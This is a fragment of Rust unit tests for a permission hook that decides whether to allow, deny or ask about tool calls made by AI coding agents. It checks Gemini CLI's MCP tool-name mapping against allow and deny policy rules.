            "tool_name":"read_file","tool_input":{"file_path":"/p/a.rs"},
            "mcp_context":{"server_name":"files","tool_name":"read_file"}});
        let call = parse_call(Some(Agent::Gemini), &p.to_string()).unwrap();
        let tools: Vec<_> = call.requests.iter().map(|r| r.tool.as_str()).collect();
        assert_eq!(tools, ["mcp__files__read_file"]);
        let policy = crate::Policy::from_json("{}").unwrap();
        let v = crate::agents::decide(&call, &policy, &Default::default()).verdict;
        assert!(matches!(v, Verdict::Ask(_)), "{v:?}");
        // The server Gemini CLI names is the tool's: its allow rules allow it.
        let allow =
            crate::Policy::from_json(r#"{"permissions":{"allow":["mcp__files"]}}"#).unwrap();
        let v = crate::agents::decide(&call, &allow, &Default::default()).verdict;
        assert!(matches!(v, Verdict::Allow(_)), "{v:?}");
        // A context without a server name is no one's.
        let p = json!({"session_id":"s","cwd":"/p","hook_event_name":"BeforeTool",
            "tool_name":"read_file","tool_input":{"file_path":"/p/a.rs"},"mcp_context":{}});
        let call = parse_call(Some(Agent::Gemini), &p.to_string()).unwrap();
        let tools: Vec<_> = call.requests.iter().map(|r| r.tool.as_str()).collect();
        assert_eq!(tools, ["mcp__gemini-mcp__read_file"]);
    }

    #[test]
    fn a_server_qualified_name_meets_the_servers_deny_rules_not_its_allow_rules() {
        // `github__delete_repo` is Gemini CLI's name for a server's tool whose bare name was
        // taken, or the bare name of any server's tool.
        let deny = r#"{"permissions":{"deny":["mcp__github__delete_repo"]}}"#;
        for tool in ["github__delete_repo", "mcp__github__delete_repo"] {
            let v = verdict(deny, tool, json!({"repo":"r"}));
            assert!(matches!(v, Verdict::Deny(_)), "{tool}: {v:?}");
        }
        let p = json!({"session_id":"s","cwd":"/p","hook_event_name":"BeforeTool",
            "tool_name":"mcp_github_delete_repo","tool_input":{"repo":"r"},
            "mcp_context":{"server_name":"github","tool_name":"delete_repo"}});
        let call = parse_call(Some(Agent::Gemini), &p.to_string()).unwrap();
        let policy = crate::Policy::from_json(deny).unwrap();
        let v = crate::agents::decide(&call, &policy, &Default::default()).verdict;
        assert!(matches!(v, Verdict::Deny(_)), "{v:?}");
        let allow = r#"{"permissions":{"allow":["mcp__github"]}}"#;
        let v = verdict(allow, "github__create_issue", json!({"title":"t"}));
        assert!(matches!(v, Verdict::Ask(_)), "{v:?}");
    }

    #[test]
    fn never_answers_ask() {
        let a = render(HookEvent::PreToolUse, &Verdict::Ask("x".into()));
        assert_eq!(a.exit_code, 2);
        assert!(!a.stdout.contains("\"ask\""));
        let a = render(HookEvent::PreToolUse, &Verdict::Allow("x".into()));
        assert_eq!(a.exit_code, 0);
        assert!(a.stdout.contains(r#""decision":"allow""#));
    }
}
